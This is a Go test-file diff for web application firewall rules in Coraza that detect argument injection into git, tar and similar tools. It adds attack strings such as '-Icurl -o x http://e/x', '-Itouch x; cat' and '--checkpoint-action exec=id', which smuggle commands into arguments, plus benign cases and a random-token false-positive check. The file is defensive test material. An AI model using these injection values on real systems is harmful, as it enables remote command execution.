@@ -1,7 +1,9 @@
 package waf
 
 import (
+	"math/rand/v2"
 	"net/url"
+	"regexp"
 	"testing"
 
 	"github.com/corazawaf/coraza/v3"
@@ -39,8 +41,8 @@ var argumentAttacks = []string{
 	"-c merge.x.driver=id", "-c sequence.editor=id", "-c core.editor=id", "-c core.pager=id", "-c pager.log=id",
 	"-cprotocol.ext.allow=always", "-c protocol.allow=always", "-c gpg.program=id", "--conf=core.sshCommand=id",
 	"-c remote.origin.uploadpack=id", "-c include.path=x.cfg",
-	"-Iid", "-I id", "--use-compress-prog=id", "--use-c=id", "--use=id", "--to-com=id", "--checkpoint-act=exec=id",
-	"--checkpoint-action exec=id", "--info-script=id", "--new-volume-script=id", "--rsh=id", "-F id", "-Fid",
+	"-Itouch x; cat", "-I id", "-I/srv/uploads/run", "-Icurl -o x http://e/x", "--use-compress-prog=id", "--use-c=id", "--use=id", "--to-com=id", "--checkpoint-act=exec=id",
+	"--checkpoint-action exec=id", "--info-script=id", "--new-volume-script=id", "--rsh=id", "-F id", "-F/srv/uploads/run",
 }
 
 var execBenign = []string{
@@ -55,6 +57,7 @@ var execBenign = []string{
 	"-c user.name=Ann", "-c core.autocrlf=false", "-c alias.st=status", "-c credential.username=ann", "-c http.sslVerify=false",
 	"-Infinity", "-Inf", "-INF", "-inline", "-i", "-f id", "-F", "-I", "-c", "--config", "-- e", "--e-mail",
 	"--checkpoint=10", "-2", "-Oh no", "-c filter.lfs.required=true",
+	"-Iid", "-Fid", "-IxZ4_k2-Qw9", "-Fq8vN-3_pLm", "-Inf to 7", "-Infinity and beyond",
 }
 
 // execMatches runs v through rules 210180-210186 in Coraza with the
@@ -113,4 +116,35 @@ func TestExecRulesBeyondTheCRS(t *testing.T) {
 		benign = append(benign, probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
 	}
 	runBeyondTheCRS(t, nil, misses, benign)
+}
+
+// TestArgumentShapesLeaveTokensAlone: rules 210181-210186's expressions
+// match none of randomSamples random tokens of nanoid's and base64url's
+// alphabet (and ~ and .) that start with '-', one in 32 of such ids
+// (attack 10, B6's -I and -F need a space or a / after them for this:
+// "-Iid" is such a token's spelling too).
+func TestArgumentShapesLeaveTokensAlone(t *testing.T) {
+	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-~."
+	var shapes []*regexp.Regexp
+	for _, s := range argumentShapes {
+		shapes = append(shapes, regexp.MustCompile(`(?i)^\s*`+s))
+	}
+	rng := rand.New(rand.NewPCG(10, 6))
+	matched := 0
+	for range randomSamples {
+		b := make([]byte, 8+rng.IntN(57))
+		for i := range b {
+			b[i] = alphabet[rng.IntN(len(alphabet))]
+		}
+		b[0] = '-'
+		for _, re := range shapes {
+			if re.Match(b) {
+				matched++
+				t.Logf("%q matches %s", b, re)
+			}
+		}
+	}
+	if matched > 0 {
+		t.Errorf("%d of %d random tokens starting with - match an argument-injection shape", matched, randomSamples)
+	}
 }
